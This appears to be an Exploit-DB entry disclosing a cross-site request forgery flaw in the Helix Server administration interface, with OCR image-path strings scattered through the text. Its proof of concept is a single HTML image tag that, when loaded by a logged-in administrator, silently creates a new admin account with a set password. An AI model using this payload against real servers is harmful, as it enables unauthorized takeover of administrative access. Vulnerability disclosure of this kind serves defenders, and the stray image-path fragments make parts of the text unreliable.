Helix Server Administration Interface Cross-Site RequestForgery Vulnerability

ID EDB-ID:35092
Type exploitdb
Reporter John Leitch
Modified 2010-12-10T00:00:00


Helix Server Administration Interface Cross Site Request Forgery Vulnerability. Remote exploits for multiple platform

                                            source: http://www.securityfocus.com/bid/45340/info

Helix Server is prone to a cross-site request-forgery vulnerability.

An attacker can exploit this issue to perform unauthorized actions by enticing a logged-in user to visit a malicious site.Helix Server is vulnerable; other versions may also be affected.

        <imgsrc="http://www.example.com/admin/auth.adduser.html?respage=config_results.nc.html&name=new_admin&pass=Password1&realm=TESTBOX.AdminRealm" />